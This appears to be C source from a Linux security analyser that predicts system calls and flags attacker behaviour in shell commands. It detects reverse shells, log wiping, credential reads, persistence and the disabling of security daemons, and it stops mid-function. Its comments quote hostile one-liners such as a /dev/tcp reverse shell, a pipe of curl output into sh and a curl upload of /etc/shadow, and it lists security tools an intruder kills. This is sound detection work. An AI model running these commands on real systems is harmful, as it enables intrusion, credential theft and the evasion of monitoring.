/* SPDX-License-Identifier: (BSD-2-Clause OR GPL-2.0-only) */
/* Calls met by the walk, as the tokens the kernel decoder would give the
 * system calls they make (schemas/tokens.json). A libc function stands for
 * its system call; what the decoder reads from the arguments (a path, a
 * flag, a socket family) is read here from the constants the walk knows,
 * and classed by the same code (behaviors/tokclass.c). Unknown arguments
 * take the most likely class (an unknown socket is inet), so a constructor
 * that hides one constant still predicts the same shape. */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <strings.h>
#include <elf.h>
#include <linux/io_uring.h>
#include "analysis/dcam_internal.h"
#include "analysis/dcam_rules.h"
#include "behaviors/tokclass.h"
#include "lib/util.h"

#define SOCK_FAMILY_UNKNOWN 0xffff
#define X_AF_UNIX 1
#define X_AF_INET 2
#define X_AF_INET6 10
#define X_AF_PACKET 17
#define X_SOCK_RAW 3
#define X_PROT_WRITE 2
#define X_MAP_ANONYMOUS 0x20
#define X_CLONE_THREAD 0x10000
#define X_AT_EMPTY_PATH 0x1000

enum kind {
	P_FIXED,    /* always token */
	P_OPEN,     /* a0 path, a1 flags */
	P_CREAT,    /* a0 path */
	P_FOPEN,    /* a0 path, a1 mode string */
	P_EXEC,     /* a0 path, a1 argv[0], a2 argv[1] (-1: not given as arguments) */
	P_SPAWN,    /* a0 path: a new process that execs */
	P_EXECVEAT, /* a1 flags */
	P_SHELL,    /* a0 a shell command (system, popen) */
	P_SOCKET,   /* a0 family, a1 type */
	P_CONNECT,  /* a0 fd */
	P_BIND,     /* a0 fd */
	P_ACCEPT,   /* a0 fd */
	P_SOCKIO,   /* a0 fd: the token only on a socket (write, read); a1 what a write sends */
	P_SEND,     /* a1 what is sent */
	P_DUP,      /* a0 fd */
	P_MPROTECT, /* a0 prot */
	P_MMAP,     /* a0 prot, a1 flags, a2 fd */
	P_PTRACE,   /* a0 request */
	P_CLONE,    /* a0 flags */
	P_CHMOD,    /* a0 mode; token names the exec and plain variants */
	P_UNLINK,   /* a0 path */
	P_MEMFD,
	P_HTTP,     /* a URL transfer: the connection and the request's exchange */
};

struct pmap {
	const char *name;
	enum kind kind;
	int8_t a0, a1, a2;
	const char *token;
};

/* By function (or syscall) name; the argument positions are libc's. */
static const struct pmap map[] = {
	{ "open", P_OPEN, 0, 1, -1, NULL },
	{ "open64", P_OPEN, 0, 1, -1, NULL },
	{ "__open_2", P_OPEN, 0, 1, -1, NULL },
	{ "__open64_2", P_OPEN, 0, 1, -1, NULL },
	{ "openat", P_OPEN, 1, 2, -1, NULL },
	{ "openat64", P_OPEN, 1, 2, -1, NULL },
	{ "__openat_2", P_OPEN, 1, 2, -1, NULL },
	{ "__openat64_2", P_OPEN, 1, 2, -1, NULL },
	{ "openat2", P_OPEN, 1, -1, -1, NULL },
	{ "creat", P_CREAT, 0, -1, -1, NULL },
	{ "creat64", P_CREAT, 0, -1, -1, NULL },
	{ "fopen", P_FOPEN, 0, 1, -1, NULL },
	{ "fopen64", P_FOPEN, 0, 1, -1, NULL },
	{ "freopen", P_FOPEN, 0, 1, -1, NULL },
	{ "freopen64", P_FOPEN, 0, 1, -1, NULL },
	{ "execve", P_EXEC, 0, -1, -1, NULL },
	{ "execv", P_EXEC, 0, -1, -1, NULL },
	{ "execvp", P_EXEC, 0, -1, -1, NULL },
	{ "execvpe", P_EXEC, 0, -1, -1, NULL },
	{ "execl", P_EXEC, 0, 1, 2, NULL },
	{ "execlp", P_EXEC, 0, 1, 2, NULL },
	{ "execle", P_EXEC, 0, 1, 2, NULL },
	{ "posix_spawn", P_SPAWN, 1, -1, -1, NULL },
	{ "posix_spawnp", P_SPAWN, 1, -1, -1, NULL },
	{ "fexecve", P_FIXED, -1, -1, -1, "execveat:fd" },
	{ "execveat", P_EXECVEAT, -1, 4, -1, NULL },
	{ "system", P_SHELL, 0, -1, -1, NULL },
	{ "popen", P_SHELL, 0, -1, -1, NULL },
	{ "socket", P_SOCKET, 0, 1, -1, NULL },
	{ "connect", P_CONNECT, 0, -1, -1, NULL },
	{ "bind", P_BIND, 0, -1, -1, NULL },
	{ "listen", P_FIXED, -1, -1, -1, "listen" },
	{ "accept", P_ACCEPT, 0, -1, -1, NULL },
	{ "accept4", P_ACCEPT, 0, -1, -1, NULL },
	{ "send", P_SEND, -1, 1, -1, "sendto" },
	{ "sendto", P_SEND, -1, 1, -1, "sendto" },
	{ "sendmsg", P_FIXED, -1, -1, -1, "sendmsg" },
	{ "sendmmsg", P_FIXED, -1, -1, -1, "sendmsg" },
	{ "write", P_SOCKIO, 0, 1, -1, "sendto" },
	{ "writev", P_SOCKIO, 0, -1, -1, "sendto" },
	{ "recv", P_FIXED, -1, -1, -1, "recvfrom" },
	{ "recvfrom", P_FIXED, -1, -1, -1, "recvfrom" },
	{ "recvmsg", P_FIXED, -1, -1, -1, "recvfrom" },
	{ "recvmmsg", P_FIXED, -1, -1, -1, "recvfrom" },
	{ "read", P_SOCKIO, 0, -1, -1, "recvfrom" },
	{ "readv", P_SOCKIO, 0, -1, -1, "recvfrom" },
	{ "dup2", P_DUP, 0, -1, -1, "dup2" },
	{ "dup3", P_DUP, 0, -1, -1, "dup3" },
	/* the child of posix_spawn dup2s what its file actions say */
	{ "posix_spawn_file_actions_adddup2", P_DUP, 1, -1, -1, "dup2" },
	{ "mprotect", P_MPROTECT, 2, -1, -1, NULL },
	{ "pkey_mprotect", P_MPROTECT, 2, -1, -1, NULL },
	{ "mmap", P_MMAP, 2, 3, 4, NULL },
	{ "mmap64", P_MMAP, 2, 3, 4, NULL },
	{ "ptrace", P_PTRACE, 0, -1, -1, NULL },
	{ "process_vm_writev", P_FIXED, -1, -1, -1, "process_vm_writev" },
	{ "memfd_create", P_MEMFD, -1, -1, -1, "memfd_create" },
	{ "fork", P_FIXED, -1, -1, -1, "clone:process" },
	{ "vfork", P_FIXED, -1, -1, -1, "clone:process" },
	{ "daemon", P_FIXED, -1, -1, -1, "clone:process" },
	{ "clone", P_CLONE, 2, -1, -1, NULL },
	{ "clone3", P_FIXED, -1, -1, -1, "clone:process" },
	{ "pthread_create", P_FIXED, -1, -1, -1, "clone:thread" },
	{ "kill", P_FIXED, -1, -1, -1, "kill" },
	{ "killpg", P_FIXED, -1, -1, -1, "kill" },
	{ "unlink", P_UNLINK, 0, -1, -1, NULL },
	{ "unlinkat", P_UNLINK, 1, -1, -1, NULL },
	{ "remove", P_UNLINK, 0, -1, -1, NULL },
	{ "rmdir", P_FIXED, -1, -1, -1, "unlinkat" },
	{ "rename", P_FIXED, -1, -1, -1, "renameat2" },
	{ "renameat", P_FIXED, -1, -1, -1, "renameat2" },
	{ "renameat2", P_FIXED, -1, -1, -1, "renameat2" },
	{ "chmod", P_CHMOD, 1, -1, -1, "fchmodat" },
	{ "lchmod", P_CHMOD, 1, -1, -1, "fchmodat" },
	{ "fchmodat", P_CHMOD, 2, -1, -1, "fchmodat" },
	{ "fchmodat2", P_CHMOD, 2, -1, -1, "fchmodat" },
	{ "fchmod", P_CHMOD, 1, -1, -1, "fchmod" },
	{ "io_uring_setup", P_FIXED, -1, -1, -1, "io_uring_setup" },
	{ "io_uring_queue_init", P_FIXED, -1, -1, -1, "io_uring_setup" },
	{ "io_uring_queue_init_params", P_FIXED, -1, -1, -1, "io_uring_setup" },
	{ "io_uring_queue_init_mem", P_FIXED, -1, -1, -1, "io_uring_setup" },
	{ "dlopen", P_FIXED, -1, -1, -1, "dlopen" },
	{ "dlmopen", P_FIXED, -1, -1, -1, "dlopen" },
	{ "__libc_dlopen_mode", P_FIXED, -1, -1, -1, "dlopen" },
	{ "pipe", P_FIXED, -1, -1, -1, "pipe2" },
	{ "pipe2", P_FIXED, -1, -1, -1, "pipe2" },
	{ "shmget", P_FIXED, -1, -1, -1, "shmget" },
	{ "shmat", P_FIXED, -1, -1, -1, "shmat" },
	{ "msgsnd", P_FIXED, -1, -1, -1, "msgsnd" },
	/* libcurl: the C programs' HTTP client makes its calls inside the
	 * library, where the walk does not go */
	{ "curl_easy_perform", P_HTTP, -1, -1, -1, NULL },
	{ "curl_multi_perform", P_HTTP, -1, -1, -1, NULL },
};

/* io_uring operations that stand for a call the decoder makes a token of
 * (bpf/profiler/iouring.bpf.h maps the same operations at run time), by
 * the libc function of that call. An open's path and flags are read from
 * the queue entry when the walk saw them stored; every other argument
 * takes the most likely class, as an unknown argument of the function
 * does. */
static const struct {
	const char *call;
	bool opens;
} ring_op_call[] = {
	[IORING_OP_SOCKET] = { "socket", false },
	[IORING_OP_CONNECT] = { "connect", false },
	[IORING_OP_SEND] = { "send", false },
	[IORING_OP_SEND_ZC] = { "send", false },
	[IORING_OP_SENDMSG] = { "sendmsg", false },
	[IORING_OP_SENDMSG_ZC] = { "sendmsg", false },
	[IORING_OP_RECV] = { "recv", false },
	[IORING_OP_RECVMSG] = { "recvmsg", false },
	[IORING_OP_ACCEPT] = { "accept4", false },
	[IORING_OP_OPENAT] = { "openat", true },
	[IORING_OP_OPENAT2] = { "openat", true },
	[IORING_OP_UNLINKAT] = { "unlinkat", false },
	[IORING_OP_RENAMEAT] = { "renameat", false },
};

/* What hands a ring's prepared entries to the kernel: the system call, and
 * liburing's functions that make it. */
static const char *const ring_submit[] = {
	"io_uring_enter", "io_uring_enter2", "io_uring_submit", "io_uring_submit_and_wait",
	"io_uring_submit_and_wait_timeout", "io_uring_submit_and_get_events",
};

struct arg {
	uint8_t kind;
	uint64_t val;
};

static struct arg arg_of(const struct callsite *c, int i)
{
	struct arg v = { RK_UNKNOWN, 0 };
	uint8_t r;

	if (i < 0 || i > 5)
		return v;
	r = c->argreg[i];
	if (r < 32) {
		v.kind = c->rg->kind[r];
		v.val = c->rg->val[r];
	}
	return v;
}

/* A constant string argument, or the text built in a stack buffer (with
 * its run-time parts as printf conversions). */
static const char *arg_str(const struct an *a, const struct callsite *c, int i, char *buf,
			   size_t len)
{
	struct arg v = arg_of(c, i);
	const char *t;

	if (v.kind == RK_STACKBUF && (t = dcam_strbuf(c->rg, v.val)) && strcmp(t, "%s")) {
		snprintf(buf, len, "%s", t);
		return buf;
	}
	return v.kind == RK_CONST ? dcam_va_str(a, v.val, buf, len) : NULL;
}

static void emit(struct an *a, const struct callsite *c, const char *token, const char *arg)
{
	struct dcam_result *r = a->res;
	struct dcam_predicted *p;

	/* a call site reached along several paths runs once */
	for (size_t i = a->pred_entry_start; i < r->n_predicted; i++)
		if (r->predicted[i].addr == c->at && r->predicted[i].token == token &&
		    !strncmp(r->predicted[i].arg, arg ? arg : "", sizeof(r->predicted[i].arg) - 1))
			return;
	if (r->n_predicted >= DCAM_PRED_MAX) {
		r->predicted_truncated = true;
		return;
	}
	if (!dcam_grow(&r->predicted, &a->cap_pred, r->n_predicted, sizeof(*p)))
		return;
	p = &r->predicted[r->n_predicted++];
	memset(p, 0, sizeof(*p));
	p->token = token;
	p->via = c->via;
	snprintf(p->call, sizeof(p->call), "%s", c->name);
	snprintf(p->arg, sizeof(p->arg), "%s", arg ? arg : "");
	snprintf(p->entry, sizeof(p->entry), "%s", c->e->name);
	p->entry_kind = c->e->kind;
	p->entry_addr = c->e->addr;
	p->addr = c->at;
}

static unsigned long fopen_flags(const char *mode)
{
	unsigned long f;

	if (!mode)
		return O_RDONLY;
	f = mode[0] == 'w' ? O_WRONLY | O_CREAT | O_TRUNC
	  : mode[0] == 'a' ? O_WRONLY | O_CREAT | O_APPEND : O_RDONLY;
	if (strchr(mode, '+'))
		f = (f & ~(unsigned long)O_ACCMODE) | O_RDWR;
	return f;
}

static const char *multicall_applet(const char *path, const char *argv0, const char *argv1)
{
	const char *b = util_base_name(path), *a0;

	if (strcmp(b, "busybox") && strcmp(b, "toybox"))
		return NULL;
	if (!argv0)
		return argv1;
	a0 = util_base_name(argv0);
	/* busybox runs the applet its argv[0] names, unless that is itself */
	return strcmp(a0, b) ? argv0 : argv1;
}

/* A log or history the code empties or deletes (how): it hides what was
 * done, as strong a finding as a persistence write. */
static void log_wipe_finding(struct an *a, const struct callsite *c, const char *path,
			     const char *how)
{
	dcam_add_finding(a, DCAM_CAT_EVASION, c->e->via, c->e, c->at,
			 DCAM_W_LOG_WIPE * dcam_via_factor(c->e->via), "%s(\"%s\"): a log %s",
			 c->name, path, how);
}

/* An open the code makes: its token when predicting; when finding, a
 * write to a place that makes code run again later (persistence), to
 * another process's memory, or one that empties a log is a finding of its
 * own, as the call's import would be. */
static void open_call(struct an *a, const struct callsite *c, bool predict, const char *path,
		      unsigned long flags)
{
	const char *tok = tokclass_open(path, flags, 0);

	if (predict)
		emit(a, c, tok, path);
	else if (!strcmp(tok, "openat:persist"))
		dcam_add_finding(a, DCAM_CAT_PERSISTENCE, c->e->via, c->e, c->at,
				 DCAM_W_PERSIST_WRITE * dcam_via_factor(c->e->via),
				 "%s(\"%s\") for writing", c->name, path);
	else if (!strcmp(tok, "openat:procmem"))
		dcam_add_finding(a, DCAM_CAT_INJECTION, c->e->via, c->e, c->at,
				 DCAM_W_PROCMEM_WRITE * dcam_via_factor(c->e->via),
				 "%s(\"%s\") for writing", c->name, path);
	else if (!strcmp(tok, "openat:logwipe"))
		log_wipe_finding(a, c, path, "emptied");
}

#define DCAM_SHELL_CMD_LEN 1024

static void exec_inline(struct an *a, const struct callsite *c, const char *prog,
			const char *opt, const char *text);

/* A relay tool told to run a program on its connection (nc -e/-c, ncat
 * --exec/--sh-exec/--lua-exec, socat's EXEC: and SYSTEM: addresses): the
 * tool's socket becomes the program's stdio — a reverse shell, or a bind
 * shell when it listens. args is what follows the program on its line. */
static void relay_shell(struct an *a, const struct callsite *c, const char *prog,
			const char *args)
{
	static const char *const nc[] = { "nc", "ncat", "netcat", "nc.traditional",
					  "nc.openbsd" };
	const char *base = util_base_name(prog), *w;
	bool socat, runs = false, listens = false;
	size_t n;

	socat = !strcmp(base, "socat");
	if (!args || (!socat && !util_in_list(base, nc, ARRAY_SIZE(nc))))
		return;
	for (w = args; *(w += strspn(w, " \t'\"")); w += n) {
		n = strcspn(w, " \t'\"");
		if (socat) {
			/* addresses are TYPE:params, types in any case */
			runs |= !strncasecmp(w, "exec:", 5) || !strncasecmp(w, "system:", 7) ||
				memmem(w, n, ",exec:", 6) || memmem(w, n, ",system:", 8);
			listens |= !strncasecmp(w, "tcp-listen:", 11) ||
				   !strncasecmp(w, "tcp4-listen:", 12) ||
				   !strncasecmp(w, "tcp6-listen:", 12) || !strncasecmp(w, "tcp-l:", 6);
		} else if (!strncmp(w, "--", 2)) {
			runs |= !strncmp(w, "--exec", 6) || !strncmp(w, "--sh-exec", 9) ||
				!strncmp(w, "--lua-exec", 10);
			listens |= !strncmp(w, "--listen", 8);
		} else if (w[0] == '-') {
			/* a group of short options: -e and -c take the program,
			 * last in the group or joined to it (-e/bin/sh) */
			for (size_t i = 1; i < n; i++) {
				char next = i + 1 < n ? w[i + 1] : '\0';

				if ((w[i] == 'e' || w[i] == 'c') && (!next || next == '/'))
					runs = true;
				listens |= w[i] == 'l';
				if (next == '/')
					break;
			}
		}
	}
	if (!runs)
		return;
	if (listens) {
		emit(a, c, "bind:inet", prog);
		emit(a, c, "listen", prog);
		emit(a, c, "accept4", prog);
	} else {
		emit(a, c, "socket:inet", prog);
		emit(a, c, "connect:inet", prog);
	}
	emit(a, c, "dup2:socket", prog);
	emit(a, c, "execve:shell", prog);
}

/* The words of a stage's arguments, quotes stepped over; a quoted word
 * with spaces comes in pieces, which is all the readers below need. */
static const char *next_word(const char *p, char *w, size_t cap)
{
	size_t n;

	p += strspn(p, " \t'\"");
	n = strcspn(p, " \t'\"");
	if (!n)
		return NULL;
	snprintf(w, cap, "%.*s", (int)n, p);
	return p + n;
}

/* A write to path by a command, emptying it first (>, cp) or not (>>):
 * its token when the class tells something (persistence, tmp, another
 * process's memory, a log wiped); plain writes and /dev/null are not
 * worth a token each. */
static void command_write(struct an *a, const struct callsite *c, const char *path,
			  bool truncate)
{
	const char *tok;

	if (!*path || !strncmp(path, "/dev/", 5))
		return;
	tok = tokclass_open(path, O_WRONLY | O_CREAT | (truncate ? O_TRUNC : O_APPEND), 0);
	if (strcmp(tok, "openat:write"))
		emit(a, c, tok, path);
}

/* A word naming logs: one (tokclass_is_log), or /var/log whole or by a
 * glob (rm -rf /var/log/\*) */
static bool log_word(const char *w)
{
	return tokclass_is_log(w) || !strcmp(w, "/var/log") ||
	       (!strncmp(w, "/var/log/", 9) && (!w[9] || strchr(w, '*')));
}

/* The programs that delete or empty the files they are given (ln -sf
 * /dev/null replaces its last word): they read none of them. */
static const char *const removers[] = { "rm", "unlink", "srm", "ln" };
static const char *const emptiers[] = { "shred", "truncate", "wipe" };

static bool wipes_files(const char *prog)
{
	return util_in_list(prog, removers, ARRAY_SIZE(removers)) ||
	       util_in_list(prog, emptiers, ARRAY_SIZE(emptiers));
}

/* A log among a wiping program's words is wiped (T1070.002, T1070.003). */
static void command_wipe(struct an *a, const struct callsite *c, const char *prog,
			 const char *w, bool last)
{
	if (!log_word(w) || (!strcmp(prog, "ln") && !last))
		return;
	emit(a, c, util_in_list(prog, removers, ARRAY_SIZE(removers)) ? "unlinkat:log"
								       : "openat:logwipe", w);
}

/* A word naming a credential file or directory (~/.ssh: its keys), as a
 * path, a curl data file (@PATH) or an input redirection (<PATH) */
static bool credential_word(const char *w)
{
	char dir[DCAM_ARG_LEN + 1];

	if (w[0] == '@' || w[0] == '<')
		w++;
	snprintf(dir, sizeof(dir), "%s/", w);
	return tokclass_is_credential(w) || tokclass_is_credential(dir);
}

/* chmod's mode: set-ID (u+s, 4755) or executable (+x, 755) */
static void command_chmod(struct an *a, const struct callsite *c, const char *mode)
{
	size_t len = strlen(mode);
	bool numeric = len && strspn(mode, "01234567") == len;
	bool adds = strpbrk(mode, "+=") != NULL; /* u+s, a=rwx; not a-x */

	if (numeric ? len == 4 && (mode[0] - '0') & 6 : adds && strchr(mode, 's'))
		emit(a, c, "fchmodat:setid", mode);
	else if (numeric ? strcspn(mode, "1357") < len : adds && strchr(mode, 'x'))
		emit(a, c, "fchmodat:exec", mode);
}

/* The daemons of security tools (auditing, logging, firewalls, MAC,
 * intrusion detection, antivirus and EDR agents, cloud hosts' security
 * agents, this agent) that an intruder stops or kills first. */
static const char *const security_daemons[] = {
	"auditd", "audit", "rsyslog", "rsyslogd", "syslog", "syslog-ng", "systemd-journald",
	"journald", "apparmor", "firewalld", "ufw", "nftables", "netfilter-persistent",
	"iptables", "fail2ban", "falco", "osqueryd", "wazuh-agent", "wazuh-agentd", "ossec",
	"aide", "clamd", "clamav-daemon", "auditbeat", "elastic-agent", "falcon-sensor",
	"sentinelone", "mdatp", "wdavdaemon", "sysmon", "aegis", "aliyun", "AliYunDun",
	"YDService", "bcm-agent", "bpf-profiler",
};

static bool security_daemon(const char *w)
{
	char name[DCAM_ARG_LEN];
	size_t n;

	snprintf(name, sizeof(name), "%s", util_base_name(w));
	n = strlen(name);
	if (n > 8 && !strcmp(name + n - 8, ".service"))
		name[n - 8] = '\0';
	return util_in_list(name, security_daemons, ARRAY_SIZE(security_daemons));
}

/* Whether prog with these arguments turns a security control off
 * (T1562.001 disable or modify tools, .004 the firewall, .012 audit): a
 * firewall flushed or opened (iptables -F, -X, -P … ACCEPT; nft flush
 * ruleset; ufw disable), SELinux made permissive, AppArmor unloaded,
 * audit rules deleted or auditing off, the kernel's address
 * randomisation or ptrace restriction off (sysctl), a security daemon
 * stopped, disabled, masked or killed. Turning one on (setenforce 1,
 * iptables -A, systemctl start auditd) is not. */
static bool impairs_control(const char *base, const char *args)
{
	static const char *const firewalls[] = { "iptables", "ip6tables", "iptables-legacy",
						 "ip6tables-legacy", "iptables-nft",
						 "ip6tables-nft", "ebtables", "arptables" };
	static const char *const managers[] = { "systemctl", "service", "rc-service",
						"update-rc.d", "chkconfig", "kill", "pkill",
						"killall" };
	static const char *const stops[] = { "stop", "disable", "mask", "kill", "off",
					     "remove" };
	char w[DCAM_ARG_LEN], prev[DCAM_ARG_LEN] = "";
	bool firewall = util_in_list(base, firewalls, ARRAY_SIZE(firewalls));
	bool killer = !strcmp(base, "kill") || !strcmp(base, "pkill") || !strcmp(base, "killall");
	bool policy = false, stopping = killer, daemon = false, hit = false;
	const char *p = args;

	if (!strcmp(base, "aa-teardown") || !strcmp(base, "aa-disable") ||
	    !strcmp(base, "aa-complain"))
		return true;
	while (!hit && p && (p = next_word(p, w, sizeof(w)))) {
		if (firewall) {
			policy |= !strcmp(w, "-P") || !strcmp(w, "--policy");
			hit = !strcmp(w, "-F") || !strcmp(w, "--flush") || !strcmp(w, "-X") ||
			      !strcmp(w, "--delete-chain") || (policy && !strcmp(w, "ACCEPT"));
		} else if (!strcmp(base, "nft")) {
			hit = (!strcmp(prev, "flush") && !strcmp(w, "ruleset")) ||
			      (!strcmp(prev, "delete") && !strcmp(w, "table"));
		} else if (!strcmp(base, "ufw")) {
			hit = !strcmp(w, "disable") || !strcmp(w, "reset");
		} else if (!strcmp(base, "setenforce")) {
			hit = !strcmp(w, "0") || !strcasecmp(w, "permissive");
		} else if (!strcmp(base, "apparmor_parser")) {
			hit = !strcmp(w, "-R") || !strcmp(w, "--remove");
		} else if (!strcmp(base, "auditctl")) {
			hit = !strcmp(w, "-D") || (!strcmp(prev, "-e") && !strcmp(w, "0"));
		} else if (!strcmp(base, "sysctl")) {
			/* address randomisation off, ptrace of any process */
			hit = strstr(w, "randomize_va_space=0") || strstr(w, "ptrace_scope=0");
		} else if (util_in_list(base, managers, ARRAY_SIZE(managers))) {
			stopping |= util_in_list(w, stops, ARRAY_SIZE(stops));
			daemon |= security_daemon(w);
			hit = stopping && daemon;
		}
		snprintf(prev, sizeof(prev), "%s", w);
	}
	return hit;
}

/* Whether prog with these arguments takes stock of the host (T1082
 * system information, T1033 owner and users, T1016 network
 * configuration, T1057 processes, T1087 accounts, T1083 the set-user-ID
 * programs to escalate with): what a first stage collects and sends home
 * (id; uname -a; hostname; ip addr; cat /etc/passwd; find / -perm -4000). */
static bool discovers(const char *base, const char *args)
{
	static const char *const tools[] = {
		"id", "whoami", "uname", "hostname", "hostnamectl", "ifconfig", "netstat", "ss",
		"arp", "route", "w", "who", "users", "last", "lastlog", "lscpu", "lsb_release",
		"nproc", "getent", "groups", "ps",
	};
	static const char *const files[] = { "/etc/passwd", "/etc/group", "/etc/os-release",
					     "/etc/issue", "/etc/hosts", "/etc/resolv.conf",
					     "/proc/version", "/proc/cpuinfo", "/proc/net/tcp",
					     "/proc/net/arp" };
	static const char *const readers[] = { "cat", "head", "tail", "grep", "awk", "base64" };
	char w[DCAM_ARG_LEN];
	const char *p = args;

	if (util_in_list(base, tools, ARRAY_SIZE(tools)))
		return true;
	if (!strcmp(base, "ip")) /* ip a, ip addr, ip route, ip neigh */
		return (p = next_word(p, w, sizeof(w))) && strchr("anrl", w[0]);
	if (!strcmp(base, "find")) { /* set-user-ID programs to escalate with */
		bool perm = false;

		while (p && (p = next_word(p, w, sizeof(w)))) {
			if (perm && (strstr(w, "4000") || strstr(w, "u=s") || strstr(w, "u+s")))
				return true;
			perm = !strcmp(w, "-perm");
		}
		return false;
	}
	if (!util_in_list(base, readers, ARRAY_SIZE(readers)))
		return false;
	while (p && (p = next_word(p, w, sizeof(w))))
		if (util_in_list(w, files, ARRAY_SIZE(files)))
			return true;
	return false;
}

/* What a stage of a command line (or an exec'd program and its first
 * arguments) does to files, read from its words: a redirection's target
 * (> and >>), tee's files, cp's and install's destination, chmod's mode,
 * and the programs whose job is to install a way back in — a cron table
 * (crontab, at), a service enabled (systemctl enable, update-rc.d,
 * chkconfig), an account (useradd, usermod, chpasswd): each as the token
 * of the write it makes (T1053, T1543, T1136, T1098). */
static void command_effects(struct an *a, const struct callsite *c, const char *prog,
			    const char *args)
{
	static const char *const installers[] = { "at", "batch", "useradd", "adduser", "usermod",
						  "chpasswd" };
	static const char *const enables[] = { "enable", "link", "defaults", "on", "--add" };
	const char *base = util_base_name(prog), *p = args;
	char w[DCAM_ARG_LEN], last[DCAM_ARG_LEN] = "";
	bool redirect = false, truncate = false, appending = false, listing = false,
	     enabling = false, mode_seen = false;

	while (p && (p = next_word(p, w, sizeof(w)))) {
		const char *gt = strchr(w, '>');

		if (redirect) { /* the target of "> PATH" */
			command_write(a, c, w, truncate);
			redirect = false;
			continue;
		}
		if (gt) {
			truncate = gt[1] != '>';
			gt += strspn(gt, ">|");
			if (*gt != '&') { /* 2>&1 duplicates a descriptor */
				if (*gt)
					command_write(a, c, gt, truncate);
				else
					redirect = true;
			}
			continue;
		}
		/* a credential named on the line is read by the program
		 * (cat KEY, tar of ~/.ssh, curl --data-binary @/etc/shadow) */
		if (credential_word(w) && !wipes_files(base))
			emit(a, c, "openat:cred", w);
		listing |= !strcmp(w, "-l") || !strcmp(w, "-r");
		enabling |= util_in_list(w, enables, ARRAY_SIZE(enables));
		appending |= !strcmp(w, "-a") || !strcmp(w, "--append");
		if (w[0] == '-')
			continue;
		if (wipes_files(base))
			command_wipe(a, c, base, w, false);
		if (!strcmp(base, "tee"))
			command_write(a, c, w, !appending);
		else if (!strcmp(base, "chmod") && !mode_seen) {
			mode_seen = true;
			command_chmod(a, c, w);
		}
		snprintf(last, sizeof(last), "%s", w);
	}
	if ((!strcmp(base, "cp") || !strcmp(base, "install")) && *last)
		command_write(a, c, last, true); /* cp /dev/null /var/log/wtmp */
	if (*last && wipes_files(base))
		command_wipe(a, c, base, last, true);
	if (impairs_control(base, args))
		emit(a, c, "execve:impair", base);
	else if (discovers(base, args))
		emit(a, c, "execve:recon", base);
	if ((!strcmp(base, "crontab") && !listing) ||
	    util_in_list(base, installers, ARRAY_SIZE(installers)) ||
	    (enabling && (!strcmp(base, "systemctl") || !strcmp(base, "update-rc.d") ||
			  !strcmp(base, "chkconfig"))))
		emit(a, c, "openat:persist", base);
}

/* Programs that run the program named after them (and their own options):
 * the stage's program is the next word. */
static bool runs_next_word(const char *prog)
{
	static const char *const wrappers[] = { "nohup", "setsid", "env", "nice", "ionice",
						"timeout", "stdbuf", "sudo", "exec", "command",
						"chroot", "unshare", "nsenter", "xargs", "busybox",
						"toybox" };
	return util_in_list(util_base_name(prog), wrappers, ARRAY_SIZE(wrappers));
}

/* A command hidden in base64 and decoded into a shell ("echo B64 | base64
 * -d | sh"): the literal decoded, when it is text. */
static bool base64_command(const char *cmd, char *out, size_t cap)
{
	static const char alphabet[] =
		"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	const char *p, *best = NULL;
	size_t best_n = 0, n = 0;
	unsigned bits = 0, acc = 0;

	if (!strstr(cmd, "base64 -d") && !strstr(cmd, "base64 --decode") &&
	    !strstr(cmd, "base64 -D"))
		return false;
	for (p = cmd; *p; p += n ? n : 1) { /* the longest run of the alphabet */
		n = strspn(p, alphabet);
		if (n > best_n) {
			best = p;
			best_n = n;
		}
	}
	if (best_n < 16)
		return false;
	n = 0;
	for (size_t i = 0; i < best_n && n + 1 < cap; i++) {
		acc = acc << 6 | (unsigned)(strchr(alphabet, best[i]) - alphabet);
		bits += 6;
		if (bits >= 8) {
			bits -= 8;
			out[n] = (char)(acc >> bits & 0xff);
			if ((unsigned char)out[n] < 0x20 && !strchr("\t\n\r", out[n]))
				return false; /* not text: not a command */
			n++;
		}
	}
	out[n] = '\0';
	return n > 0;
}

/* A shell command line: every pipeline stage whose program is a shell or
 * a downloader ("curl -s http://x | sh", quoted or not: "bash -c 'curl
 * …'") or an interpreter given a program, then the connections bash's
 * /dev/tcp and /dev/udp redirections make — each a socket connected and
 * put on a descriptor ("bash -i >& /dev/tcp/HOST/PORT 0>&1": the reverse
 * shell one-liner). shell_command() adds the shell that runs it. */
static void command_line(struct an *a, const struct callsite *c, const char *cmd, bool decoded)
{
	char buf[DCAM_ARG_LEN], args[DCAM_SHELL_CMD_LEN];
	const char *p = cmd, *net;
	bool wrapped = false;

	while (p && *p) {
		size_t n, stage;
		const char *tok;

		p += strspn(p, " \t|;&()`\n$'\"");
		n = strcspn(p, " \t|;&()`\n'\"");
		if (!n)
			break;
		if (memchr(p, '=', n) && !memchr(p, '/', n)) { /* VAR=value before the program */
			p += n;
			continue;
		}
		/* a wrapper's options and counts (nice -n 19, timeout 10)
		 * before the program it runs */
		if (wrapped && (*p == '-' || strspn(p, "0123456789") == n)) {
			p += n;
			continue;
		}
		snprintf(buf, sizeof(buf), "%.*s", (int)n, p);
		wrapped = runs_next_word(buf);
		if (wrapped) { /* nohup PROG, busybox APPLET: the program is next */
			p += n;
			continue;
		}
		tok = tokclass_exec(buf, NULL);
		/* a program run from a tmp dir: a dropped payload */
		if (strcmp(tok, "execve") || tokclass_is_tmp(buf)) {
			emit(a, c, "clone:process", buf);
			emit(a, c, tok, buf);
		}
		/* an interpreter's inline program: the rest of the line is its */
		if (!tokclass_is_shell(buf) && p[n] == ' ') {
			const char *opt = p + n + 1;
			size_t on = strcspn(opt, " \t");
			char flag[8];

			if (on < sizeof(flag) && opt[on]) {
				snprintf(flag, sizeof(flag), "%.*s", (int)on, opt);
				exec_inline(a, c, buf, flag, opt + on + 1);
			}
		}
		/* the rest of this stage are its arguments */
		stage = strcspn(p, "|;&()`\n");
		snprintf(args, sizeof(args), "%.*s", (int)(stage - n), p + n);
		if (tokclass_is_downloader(buf))
			relay_shell(a, c, buf, args);
		command_effects(a, c, buf, args);
		p += stage;
	}
	if (!decoded && cmd) { /* one level: what it decodes to is read as written */
		char text[DCAM_SHELL_CMD_LEN];

		if (base64_command(cmd, text, sizeof(text)))
			command_line(a, c, text, true);
	}
	for (net = cmd; net && (net = strstr(net, "/dev/")); net += 5) {
		if (strncmp(net + 5, "tcp/", 4) && strncmp(net + 5, "udp/", 4))
			continue;
